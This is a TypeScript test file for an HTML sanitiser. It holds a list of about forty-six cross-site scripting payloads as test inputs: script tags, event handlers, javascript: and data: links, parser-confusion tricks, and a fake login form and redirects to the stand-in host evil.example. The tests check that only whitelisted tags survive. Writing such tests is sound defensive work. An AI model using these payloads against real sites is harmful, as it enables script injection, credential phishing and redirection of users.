import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

/** Known attacks. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="https://good.example" onclick="alert(1)">x</a>',
  '<a href="https://good.example" style="position:fixed;inset:0">x</a>',
  '<p onmouseover=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="root" class="dialog">x</p>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
];

/**
 * Every remaining tag must match one of these exactly: checked by other code than the sanitiser's.
 */
const HARMLESS = new RegExp(
  `^(</?(p|h3|h4|strong|em|u|s|ul|ol|li|blockquote|code|a)>|<(br|hr) ?/?>|<a href="(/(?!/)[^"\\\\]*|#[\\w-]+|mailto:[^"]+)">|<a href="https://[^"\\s]+" target="_blank" rel="noopener noreferrer">)$`,
);

describe('HTML written by an operator', () => {
  it.each(PAYLOADS)('loses everything that runs, leads away or covers the page: %s', (payload) => {
    for (const html of [payload, `<p>before ${payload} after</p>`, `${payload}${payload}`]) {
      const kept = sanitiseHtml(html);
      for (const [tag] of kept.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(HARMLESS);
      // Sanitising again changes nothing, so stored HTML stays the same.
      expect(sanitiseHtml(kept)).toBe(kept);
    }
  });

  it('keeps headings, lists, emphasis, quotes and links', () => {
    const html =
      '<h3>জমা</h3><p>Choose a <strong>channel</strong> and an <em>amount</em>.<br />Then wait.</p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>said</p></blockquote>' +
      '<p><a href="/help#deposit">more</a> <a href="mailto:help@site.example">write</a></p>';
    expect(sanitiseHtml(html)).toBe(html);
  });

  it('opens another site in a new tab without a referrer', () => {
    expect(sanitiseHtml('<a href="https://site.example/a?b=1" target="x">x</a>')).toBe(
      '<a href="https://site.example/a?b=1" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('normalises tags of other editors', () => {
    expect(sanitiseHtml('<h1>a</h1><div><b>b</b> <i>c</i></div>')).toBe(
      '<h3>a</h3><p><strong>b</strong> <em>c</em></p>',
    );
  });
});
